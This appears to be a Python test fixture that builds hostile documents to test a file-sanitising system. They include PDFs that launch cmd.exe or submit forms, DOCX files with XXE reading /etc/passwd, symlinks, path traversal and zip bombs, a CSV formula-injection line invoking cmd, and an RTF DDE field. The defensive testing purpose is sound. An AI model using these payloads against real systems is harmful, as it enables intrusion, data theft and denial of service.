"""Documents: what acts when one opens them, what unpacks without end, what says who wrote it."""

import stat
import zipfile
from io import BytesIO

import pikepdf

from core.files.types import TYPES
from tests.contributions import files
from tests.contributions.files import SECRET, docx, odt, package
from tests.core import test_document_text as bombs
from tests.core.test_doors import PACKAGES
from tests.core.test_photos import photo
from tests.hostile.corpus.table import DOCUMENTS, EITHER, REFUSED, TAKEN, family

_RELATIONS = "word/_rels/document.xml.rels"
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf_that(change):
    """A PDF (bytes) of one page, after `change` (function of the open Pdf)."""
    with pikepdf.open(BytesIO(files.pdf())) as document:
        change(document)
        output = BytesIO()
        document.save(output)
    return output.getvalue()


def acting(**action):
    """A PDF that does something when one opens it."""
    act = pikepdf.Dictionary({f"/{key}": value for key, value in action.items()})
    return pdf_that(lambda document: document.Root.__setitem__("/OpenAction", act))


def attach(document):
    document.attachments["tract.txt"] = pikepdf.AttachedFileSpec(document, SECRET.encode(), filename="tract.txt")


def with_past():
    """A PDF written after its end: what it was before is still there (ISO 32000-1, 7.5.6)."""
    first = files.pdf()
    start = int(first.rpartition(b"startxref")[2].split()[0])
    note = b"\n90 0 obj\n<</Author (%s)>>\nendobj\n" % SECRET.encode()
    table = b"xref\n90 1\n%010d 00000 n \ntrailer\n<</Size 91/Prev %d/Root 1 0 R/Info 90 0 R>>\n" % (
        len(first) + 1,
        start,
    )
    return first + note + table + b"startxref\n%d\n%%%%EOF\n" % (len(first) + len(note))


def deep_pdf():
    return bombs.pdf_of(
        b"<</Type/Catalog/Pages 2 0 R/X %s>>" % (b"[" * 900 + b"]" * 900),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def looping_pdf():
    """A PDF whose pages lead to themselves."""
    return bombs.pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>")


def related(sort, target):
    """A DOCX that fetches `target` when it is opened."""
    relation = f'<Relationship Id="r1" Type="{_TYPES}/{sort}" Target="{target}" TargetMode="External"/>'
    return docx(**{_RELATIONS: f"<Relationships>{relation}</Relationships>"})


def with_symlink():
    output = BytesIO(docx())
    with zipfile.ZipFile(output, "a") as archive:
        link = zipfile.ZipInfo("word/media/image2.png")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return output.getvalue()


def nested():
    """Archives in archives: little at each level, terabytes in all."""
    inner = package({"a": bytes(30_000_000)})
    for _level in range(4):
        inner = package({f"{number}.zip": inner for number in range(16)})
    return docx(**{"word/embeddings/tout.zip": inner})


def many(number):
    return docx(**{f"word/media/{one}.png": "" for one in range(number)})


def members_only(kind):
    return package(PACKAGES[kind])


_ODT_SCRIPT = '<script:event-listener xmlns:script="urn:x" script:event-name="dom:load" href="vnd.sun.star.script:x"/>'
_ODT_LINK = '<draw:image xmlns:draw="urn:d" xmlns:xlink="urn:x" xlink:href="http://127.0.0.1/suivi.png"/>'
_XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document><w:t>&a;</w:t></w:document>'
_CELLS = "nom,somme\n=HYPERLINK(\"http://127.0.0.1/?\"&A1),1\n+cmd|' /C calc'!A0,2\n"

FILES = [
    *family(
        DOCUMENTS,
        ("tract.pdf", "PDF qui dit qui l’a écrit", files.pdf),
        ("script.pdf", "PDF avec du JavaScript", lambda: files.pdf(active=True)),
        ("lance.pdf", "PDF qui lance un programme", lambda: acting(S=pikepdf.Name.Launch, F="cmd.exe")),
        (
            "partage.pdf",
            "PDF qui va sur un autre serveur",
            lambda: acting(S=pikepdf.Name.GoToR, F="\\\\127.0.0.1\\x", D=0),
        ),
        (
            "envoie.pdf",
            "PDF qui envoie un formulaire",
            lambda: acting(S=pikepdf.Name.SubmitForm, F="http://127.0.0.1/"),
        ),
        ("joint.pdf", "PDF avec un fichier à l’intérieur", lambda: pdf_that(attach)),
        ("passe.pdf", "PDF qui garde sa version d’avant", with_past),
        ("photo.pdf", "PDF avec une photo, sa position comprise", lambda: files.pdf(photo_inside=photo("JPEG"))),
        ("note.pdf", "PDF avec une remarque signée", lambda: files.pdf(remark="<p>Relu</p>")),
        ("texte.docx", "DOCX : auteur, entreprise, corrections, photo", docx),
        ("macros.docx", "DOCX avec des macros", lambda: docx(**{"word/vbaProject.bin": SECRET})),
        (
            "modele.docx",
            "DOCX au modèle distant",
            lambda: related("attachedTemplate", f"http://127.0.0.1/{SECRET}.dotm"),
        ),
        ("objet.docx", "DOCX avec un objet distant", lambda: related("oleObject", "http://127.0.0.1/x")),
        ("programme.docx", "DOCX avec un programme", lambda: docx(**{"word/embeddings/x.exe": b"MZ" + bytes(99)})),
        ("lien.docx", "DOCX avec un lien symbolique vers /etc/passwd", with_symlink),
        ("entites.docx", "DOCX aux entités qui se multiplient", lambda: docx(**{"word/document.xml": bombs.ENTITIES})),
        ("externe.docx", "DOCX qui lit /etc/passwd (XXE)", lambda: docx(**{"word/document.xml": _XXE})),
        ("profond.docx", "DOCX de 100 000 niveaux", lambda: bombs.BOMBS["depth"][1]()),
        ("comptes.csv", "CSV aux formules actives, pris pour un texte", lambda: _CELLS.encode()),
        ("texte.odt", "ODT : autrice, vignette", odt),
        ("script.odt", "ODT avec un script", lambda: odt(**{"Basic/Standard/Module1.xml": f"<x>{SECRET}</x>"})),
        ("ecoute.odt", "ODT qui agit à l’ouverture", lambda: odt(**{"settings.xml": _ODT_SCRIPT})),
        ("distant.odt", "ODT avec une image distante", lambda: odt(**{"styles.xml": _ODT_LINK})),
        ("vide-bombe.pdf", "PDF de 100 Mo de blancs", lambda: bombs.BOMBS["spaces"][1]()),
        ("formes.pdf", "PDF aux dessins qui se multiplient", bombs.nested_forms),
        strangers=TAKEN,
        members=TAKEN,
    ),
    *family(
        DOCUMENTS,
        *(
            (f"table.{kind}", f"{kind.upper()} qui dit qui l’a écrit", lambda kind=kind: members_only(kind))
            for kind in PACKAGES
        ),
        (
            "liens.xlsx",
            "XLSX lié à un autre classeur",
            lambda: package({**PACKAGES["xlsx"], "xl/externalLinks/externalLink1.xml": "<x/>"}),
        ),
        (
            "livre.epub",
            "EPUB avec un script",
            lambda: package(
                {"mimetype": TYPES["epub"].mime, "META-INF/container.xml": "<x/>", "a.xhtml": "<script>zqx()</script>"}
            ),
        ),
        strangers=REFUSED,
        members=TAKEN,
    ),
    *family(
        DOCUMENTS,
        ("objet.rtf", "RTF avec un objet", lambda: files.rtf("{\\object\\objemb{\\*\\objdata 00}}")),
        (
            "champ.rtf",
            "RTF qui appelle un programme (DDE)",
            lambda: files.rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\x "/k"}}'),
        ),
        strangers=TAKEN,
        members=REFUSED,
    ),
    *family(
        DOCUMENTS,
        ("ferme.pdf", "PDF fermé par un mot de passe", lambda: files.pdf(password="x")),
        ("coupe.pdf", "PDF coupé", lambda: files.pdf()[:400]),
        ("boucle.pdf", "PDF dont les pages tournent en rond", looping_pdf),
        ("page.pdf", "page web et PDF à la fois", lambda: b"<html><script>zqx()</script>" + files.pdf()),
        ("suite.pdf", "PDF suivi d’une page web", lambda: files.pdf() + b"<html><script>zqx()</script>"),
        ("archive.pdf", "PDF suivi d’un ZIP", lambda: files.pdf() + package({"a": "a"})),
        ("rapport.docx", "DOCX qui se déplie en 70 Mo", lambda: docx(**{"word/a.xml": bytes(70_000_000)})),
        ("entrees.docx", "DOCX de 6 000 entrées", lambda: many(6_000)),
        ("chemin.docx", "DOCX aux chemins « .. »", lambda: docx(**{"../../etc/cron.d/x": "x"})),
        ("racine.docx", "DOCX au chemin absolu", lambda: docx(**{"/etc/cron.d/x": "x"})),
        ("ferme.docx", "DOCX chiffré", bombs.locked_zip),
        ("coupe.odt", "ODT coupé", lambda: odt()[:300]),
        ("tout.docx", "ZIP nommé .docx", lambda: package({"a.txt": "a"})),
    ),
    *family(
        DOCUMENTS,
        ("poupees.docx", "archives dans des archives", nested),
        ("profond.pdf", "PDF de 900 niveaux", deep_pdf),
        strangers=EITHER,
        members=EITHER,
    ),
]
